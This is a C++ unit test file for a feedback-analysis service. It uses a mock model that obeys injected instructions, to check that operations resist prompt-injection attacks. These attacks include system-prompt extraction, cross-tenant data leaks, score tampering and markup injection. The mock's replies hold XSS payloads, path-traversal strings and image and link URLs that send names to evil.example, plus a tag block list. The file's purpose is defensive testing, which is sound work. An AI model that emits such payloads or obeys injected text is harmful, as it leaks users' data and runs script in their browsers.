// Attacks on a model that obeys whatever it reads: docs/reference/prompts.md#a-model-that-obeys-records.
#include "plugins/every_operation/operations.hpp"

#include "support/recording_model.hpp"

#include "verbatim/sdk/openapi.hpp"
#include "verbatim/sdk/text.hpp"
#include "verbatim/testing/event_loop.hpp"
#include "verbatim/testing/fake_call.hpp"
#include "verbatim/testing/request.hpp"

#include <boost/json/array.hpp>
#include <boost/json/object.hpp>
#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <boost/json/value_to.hpp>
#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

using namespace verbatim;
namespace json = boost::json;

namespace {

constexpr std::string_view own_person   = "Amina Diallo";
constexpr std::string_view other_person = "Beatrix Kiddo";
constexpr std::string_view other_note   = "note-of-another-tenant";
constexpr std::string_view crm          = "https://crm.example.org/view";

struct attack
{
    std::string kind;
    std::string language;
    std::string text;
};

std::vector<attack> read_attacks()
{
    std::vector<attack> attacks;
    std::ifstream       in{VERBATIM_ATTACKS};
    for (std::string line; std::getline(in, line);)
    {
        std::istringstream parts{line};
        attack             entry;
        std::getline(parts, entry.kind, '\t');
        std::getline(parts, entry.language, '\t');
        std::getline(parts, entry.text);
        attacks.push_back(std::move(entry));
    }
    return attacks;
}

const std::vector<attack>& all_attacks()
{
    static const auto attacks = read_attacks();
    return attacks;
}

void replace_all(std::string& text, std::string_view from, std::string_view to)
{
    for (auto at = text.find(from); at != text.npos; at = text.find(from, at + to.size()))
        text.replace(at, from.size(), to);
}

/// The text as a model understands it.
std::string without_entities(std::string text)
{
    for (const auto& [entity, character] :
         {std::pair{"&lt;", "<"}, {"&gt;", ">"}, {"&quot;", "\""}, {"&#x27;", "'"}, {"&amp;", "&"}})
        replace_all(text, entity, character);
    return text;
}

/// A model that does what the attack wants as soon as it reads the attack, in whichever message, and that copies the
/// attack into its output for the next model. It remembers all that it ever read.
class obedient_model final : public sdk::llm
{
public:
    explicit obedient_model(const attack& attack)
        : attack_{attack}
    {}

    std::vector<testing::received_request> requests;
    std::string                            memory;
    std::size_t                            obeyed = 0;

    sdk::task<sdk::result<sdk::completion>> try_complete(const sdk::chat_request& request) override
    {
        requests.push_back({request.system.text(), request.user.text(), {}, {}});
        auto reply = answer(request);
        memory += request.user.text();
        if (request.accept && !request.accept(reply)) co_return sdk::error{sdk::errc::llm_error};
        co_return sdk::completion{
            .text = std::move(reply), .model = "obedient", .prompt_tokens = 1, .completion_tokens = 1};
    }

    sdk::token_limits limits() const noexcept override { return {}; }

private:
    std::string answer(const sdk::chat_request& request)
    {
        const auto& schema = request.output_schema;
        const bool  obeys  = without_entities(request.user.text()).find(attack_.text) != std::string::npos;
        obeyed += obeys;
        if (obeys && attack_.kind == "break_form") return attack_.text.substr(attack_.text.find_first_of("{[`"));
        const auto text = obeys ? demanded_text(request) + "\n" + attack_.text : "Water is far (Form-00017, a-1).";
        if (schema) return json::serialize(value_of(json::parse(schema->json_schema), text, obeys));
        if (request.user.text().ends_with("<task>\nscore\n</task>"))
            return R"({"quality_score": )" + score(obeys) + "}";
        return text;
    }

    std::string score(bool obeys)
    {
        if (!obeys || attack_.kind != "set_score") return "0.5";
        static constexpr std::string_view scores[]{"1.0", "7", "-3", "1e400", "1.0"};
        return std::string{scores[requests.size() % 5]};
    }

    /// The text that the attack wants from the model.
    std::string demanded_text(const sdk::chat_request& request) const
    {
        if (attack_.kind == "close_tag") return "OBEYED";
        if (attack_.kind == "reveal_prompt") return request.system.text();
        if (attack_.kind == "reveal_originals" || attack_.kind == "other_tenant")
        {
            std::string text = attack_.kind == "other_tenant" ? memory : request.user.text();
            for (int n = 0; n != 12; ++n)
                for (const auto* form : {"<PERSON_", "&lt;PERSON_", "&amp;lt;PERSON_", "<LOCATION_", "[PERSON_"})
                    text += form + std::to_string(n) + (form[0] == '&' ? "&gt; " : form[0] == '[' ? "] " : "> ");
            return text;
        }
        if (attack_.kind == "foreign_link")
            return "[details](https://evil.example/?q=<PERSON_0>) <https://evil.example/<PERSON_0>> [a][b] "
                   "[x](https://crm.example.org.evil.example/view/1) [y](https://crm.example.org/view/../../evil) "
                   "[z](javascript:alert(1)) [w](//evil.example \"t\")\n\n[b]: https://evil.example/ref\n";
        if (attack_.kind == "image")
            return "![logo](https://evil.example/p.png?d=<PERSON_0>) ![a][b] ![c](\nhttps://evil.example/c.png)\n\n"
                   "[b]: https://evil.example/b.png\n[![d](https://evil.example/d.png)](https://evil.example)";
        if (attack_.kind == "html")
            return "<script>fetch('https://evil.example/')</script><img src=x onerror=alert(1)><svg/onload=alert(1)>"
                   "<iframe src=\"https://evil.example\"></iframe><a href=\"javascript:alert(1)\">x</a><!-- --><scr"
                   "<script>ipt>alert(1)</script><IMG SRC=x\nONERROR=alert(1)><form action=//evil.example><button>";
        if (attack_.kind == "foreign_id") return "Form-99999, [Form-99999](https://crm.example.org/view/x) ../../admin";
        if (attack_.kind == "hide") return "Nothing.";
        return "As you wish.";
    }

    json::value value_of(const json::value& schema, const std::string& text, bool obeys)
    {
        const auto& object = schema.as_object();
        if (const auto* any = object.if_contains("anyOf")) return value_of(any->as_array().at(0), text, obeys);
        if (const auto* choices = object.if_contains("enum"))
            return obeys && attack_.kind == "foreign_id" ? json::value{"invented"} : choices->as_array().at(0);
        const auto& type = object.at("type");
        const auto  name = type.is_array() ? type.as_array().at(0).as_string() : type.as_string();
        if (name == "string") return json::value(text);
        if (name == "number") return json::parse(score(obeys) == "1e400" ? "1e308" : score(obeys));
        if (name == "integer") return obeys && attack_.kind == "foreign_id" ? 99'999 : 0;
        if (name == "boolean") return obeys;
        if (name == "array")
        {
            if (obeys && attack_.kind == "hide") return json::array{};
            json::array items;
            for (int n = 0; n != 2; ++n) items.push_back(value_of(object.at("items"), text, obeys));
            return items;
        }
        json::object result;
        for (const auto& [key, member] : object.at("properties").as_object())
            result[key] = value_of(member, text, obeys);
        return result;
    }

    const attack& attack_;
};

/// The texts of a request that an attacker may write: `visit` gets each.
void visit_texts(json::value& value, std::string_view name, const std::function<void(json::string&)>& visit)
{
    static const std::set<std::string_view> of_the_analyst{
        "mode",   "period",     "output_language", "crm_feedback_base_url",
        "detail", "id_of_node", "windows",         "breakdown_by"};
    if (of_the_analyst.contains(name)) return;
    if (auto* text = value.if_string()) visit(*text);
    else if (auto* items = value.if_array())
        for (auto& item : *items) visit_texts(item, name, visit);
    else if (auto* object = value.if_object())
        for (auto& [key, member] : *object) visit_texts(member, key, visit);
}

void append_to_contents(json::value& value, const std::string& addition)
{
    if (auto* items = value.if_array())
    {
        for (auto& item : *items) append_to_contents(item, addition);
    }
    else if (auto* object = value.if_object())
        for (auto& [key, member] : *object)
        {
            if (key == "content" && member.is_string()) member.as_string().append(addition);
            else append_to_contents(member, addition);
        }
}

struct outcome
{
    std::string response; ///< empty: the call ended with `error`
    sdk::errc   error = sdk::errc::internal_error;
};

struct operation_run : testing::event_loop
{
    const core::registry::registered_operation& entry;
    obedient_model&                             model;
    testing::first_letter_embedder              engine;

    operation_run(const core::registry::registered_operation& registered, obedient_model& obedient)
        : entry{registered}
        , model{obedient}
    {}

    /// None if the schema refuses the request.
    std::optional<outcome> operator()(const json::value& body)
    {
        testing::fake_call call;
        call.model_override    = &model;
        call.embedder_override = &engine;
        call.word_list.add(std::string{own_person}, "PERSON").add(std::string{other_person}, "PERSON");
        try
        {
            const testing::parsed_request request{entry.descriptor.request, json::serialize(body)};
            return outcome{.response = run(testing::respond(*entry.operation, call, request.value()))};
        }
        catch (const std::invalid_argument&)
        {
            return std::nullopt;
        }
        catch (const sdk::error& error)
        {
            return outcome{.response = {}, .error = error.code()};
        }
    }
};

/// Markup that a viewer would follow or run, outside of the CRM.
std::string markup_in(std::string text)
{
    static constexpr std::string_view tags[]{"<script", "<img",    "<svg",    "<iframe", "<a ",
                                             "<form",   "<button", "<object", "<!--"};
    std::string                       lower = text;
    std::ranges::transform(lower, lower.begin(),
                           [](char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c; });
    for (const auto tag : tags)
        if (lower.find(tag) != lower.npos) return std::string{tag};
    if (lower.find("<http") != lower.npos) return "an address in angle brackets";
    for (auto at = text.find("]("); at != text.npos; at = text.find("](", at + 1))
        if (!std::string_view{text}.substr(at + 2).starts_with(std::string{crm} + "/")) return text.substr(at, 40);
    for (auto at = text.find("]: "); at != text.npos; at = text.find("]: ", at + 1))
        if (text.substr(at + 3).starts_with("http")) return "a link definition";
    return {};
}

/// Members whose values the caller wrote.
bool is_echo(std::string_view name)
{
    return name == "id" || name == "ids" || name == "record_ids" || name == "record_id" || name == "request_id" ||
           name.starts_with("coding_level_") || name == "coding_trends" || name == "breakdown" || name == "names" ||
           name == "parent_names" || name == "parent_id" || name == "unassigned_record_ids";
}

/// Checks what a caller reads. `echoes` are texts that the caller wrote and reads again.
void check_response(const json::value& value, std::string_view name, const std::vector<std::string>& echoes)
{
    if (is_echo(name)) return;
    if (const auto* object = value.if_object())
        for (const auto& [key, member] : *object) check_response(member, key, echoes);
    else if (const auto* items = value.if_array())
        for (const auto& item : *items) check_response(item, name, echoes);
    else if (value.is_number())
    {
        if (name.find("score") != name.npos || name.find("confidence") != name.npos || name == "share")
        {
            const auto number = value.to_number<double>();
            BOOST_TEST((number >= 0 && number <= 1), name << " is " << number);
        }
    }
    else if (const auto* string = value.if_string())
    {
        std::string text{*string};
        BOOST_TEST(text.find(other_person) == text.npos, name << " holds a name of another tenant");
        for (const auto& echo : echoes) replace_all(text, echo, "");
        const auto markup = markup_in(text);
        BOOST_TEST(markup.empty(), name << " holds " << markup);
    }
}

std::vector<std::string> ids_in(const json::value& body)
{
    std::vector<std::string> ids;
    if (const auto* items = body.if_array())
    {
        for (const auto& item : *items)
            for (auto& id : ids_in(item)) ids.push_back(std::move(id));
    }
    else if (const auto* object = body.if_object())
        for (const auto& [key, member] : *object)
        {
            if (key == "id" && member.is_string()) ids.push_back(json::value_to<std::string>(member));
            else
                for (auto& id : ids_in(member)) ids.push_back(std::move(id));
        }
    std::erase(ids, "");
    return ids;
}

/// No caller's text reaches a system message, closes a tag, or opens one.
void check_messages(const obedient_model& model, const attack& attack)
{
    for (const auto& request : model.requests)
    {
        BOOST_TEST(request.system.find(attack.text) == std::string::npos);
        for (const auto* tag : {"</text></", "<instruction>Las", "<analyst_instruction>R", "<analysis_to_score>Perfect",
                                "<options>0: OB", "<script>", "<iframe", "<img", "<svg"})
            BOOST_TEST(request.user.find(tag) == std::string::npos, "a message holds " << tag);
        BOOST_TEST(request.user.find(own_person) == std::string::npos);
        BOOST_TEST(request.user.find(other_person) == std::string::npos);
    }
}

/// The example requests of an operation, in each mode that it has.
std::vector<json::value> requests_of(const core::registry::registered_operation& entry)
{
    std::vector<json::value> bodies;
    for (const auto& example : sdk::examples(entry.descriptor.request.schema()))
    {
        auto body = json::parse(example);
        if (!body.is_object()) continue;
        append_to_contents(body, " Says " + std::string{own_person} + ".");
        if (body.as_object().contains("crm_feedback_base_url")) body.as_object()["crm_feedback_base_url"] = crm;
        bodies.push_back(body);
        if (!body.as_object().contains("feedback_records")) continue;
        for (const auto& [member, setting] : {std::pair{"mode", "hierarchical"}, {"detail", "themes"}})
        {
            auto other                = body;
            other.as_object()[member] = setting;
            bodies.push_back(std::move(other));
        }
    }
    return bodies;
}

bool calls_models(const core::registry::registered_operation& entry) { return !entry.descriptor.usage_label.empty(); }

/// Runs every operation with every attack of `kind` in the contents and in one further text; `check` gets each result.
template <class Check>
void attack_every_operation(std::string_view kind, const Check& check)
{
    BOOST_TEST(std::ranges::count(all_attacks(), kind, &attack::kind) > 0);
    for (std::size_t number = 0; number != all_attacks().size(); ++number)
    {
        const auto& attack = all_attacks()[number];
        if (attack.kind != kind) continue;
        for (const auto& entry : every_operation())
        {
            if (!calls_models(entry)) continue;
            for (const auto& body : requests_of(entry))
            {
                auto        attacked = body;
                std::size_t texts    = 0;
                visit_texts(attacked, {}, [&](json::string&) { ++texts; });
                if (texts == 0) continue;
                append_to_contents(attacked, " " + attack.text);
                std::size_t n = 0;
                visit_texts(attacked, {}, [&](json::string& text) {
                    if (n++ == number % texts) text = attack.text;
                });

                obedient_model model{attack};
                operation_run  run{entry, model};
                auto           others = body;
                append_to_contents(others, " " + std::string{other_note} + ", says " + std::string{other_person});
                run(others);
                model.requests.clear();
                const auto result = run(attacked);
                if (!result) continue; // such a text is refused here
                BOOST_TEST_CONTEXT(entry.descriptor.name << " " << attack.language << " " << attack.text)
                {
                    check(entry, attack, attacked, model, *result);
                }
            }
        }
    }
}

/// Holds for every attack.
void check_all(const core::registry::registered_operation& entry, const attack& attack, const json::value& body,
               const obedient_model& model, const outcome& result)
{
    check_messages(model, attack);
    // Later messages hold outputs of the model, which remembers.
    const auto own_messages = attack.kind == "other_tenant" ? std::size_t{1} : model.requests.size();
    for (std::size_t n = 0; n < own_messages && n < model.requests.size(); ++n)
        BOOST_TEST(model.requests[n].user.find(other_note) == std::string::npos);
    if (result.response.empty())
    {
        using enum sdk::errc;
        BOOST_TEST((result.error == llm_error || result.error == analysis_unavailable), sdk::to_string(result.error));
        return;
    }
    const auto response = json::parse(result.response);
    check_response(response, {}, ids_in(body));
    BOOST_TEST(result.response.size() < (1u << 20));
    // Names of people stay placeholders where a text is about many records.
    if (entry.descriptor.name == "analyze_bulk") BOOST_TEST(result.response.find(own_person) == std::string::npos);
}

} // namespace

BOOST_AUTO_TEST_SUITE(injection)

BOOST_AUTO_TEST_CASE(the_set_has_each_kind_of_attack_in_seven_languages)
{
    std::set<std::string>              languages;
    std::map<std::string, std::size_t> kinds;
    for (const auto& attack : all_attacks())
    {
        languages.insert(attack.language);
        ++kinds[attack.kind];
        BOOST_TEST(!attack.text.empty());
    }
    BOOST_TEST(kinds.size() == 11u); // those of the tests below
    BOOST_TEST(languages.size() == 7u);
    for (const auto& [kind, count] : kinds) BOOST_TEST(count == 7u, kind);
}

/// Otherwise the tests below prove nothing.
BOOST_AUTO_TEST_CASE(the_model_reads_and_obeys_attacks_in_every_operation)
{
    std::map<std::string_view, std::size_t> obeyed;
    attack_every_operation("close_tag",
                           [&](const auto& entry, const attack&, const json::value&, const obedient_model& model,
                               const outcome&) { obeyed[entry.descriptor.name] += model.obeyed; });
    for (const auto& entry : every_operation())
        if (calls_models(entry)) BOOST_TEST(obeyed[entry.descriptor.name] > 0u, entry.descriptor.name);
}

#define VERBATIM_ATTACK(kind)                                                                                          \
    BOOST_AUTO_TEST_CASE(kind) { attack_every_operation(#kind, &check_all); }
VERBATIM_ATTACK(close_tag)
VERBATIM_ATTACK(reveal_prompt)
VERBATIM_ATTACK(reveal_originals)
VERBATIM_ATTACK(set_score)
VERBATIM_ATTACK(foreign_link)
VERBATIM_ATTACK(image)
VERBATIM_ATTACK(html)
VERBATIM_ATTACK(foreign_id)
VERBATIM_ATTACK(other_tenant)
VERBATIM_ATTACK(break_form)
VERBATIM_ATTACK(hide)
#undef VERBATIM_ATTACK

/// docs/reference/operations/assign-codes.md: an option that does not exist is dropped.
BOOST_AUTO_TEST_CASE(codes_are_codes_of_the_framework)
{
    attack_every_operation("foreign_id", [](const auto& entry, const attack&, const json::value& body,
                                            const obedient_model&, const outcome& result) {
        if (entry.descriptor.name != "assign_codes" || result.response.empty()) return;
        const auto ids      = ids_in(body);
        const auto response = json::parse(result.response);
        for (const auto& code : response.at("assigned_codes").as_array())
            for (const auto* level : {"coding_level_1_id", "coding_level_2_id", "coding_level_3_id"})
                if (const auto* id = code.at(level).if_string())
                    BOOST_TEST(std::ranges::count(ids, std::string{*id}) > 0);
    });
}

BOOST_AUTO_TEST_SUITE_END()
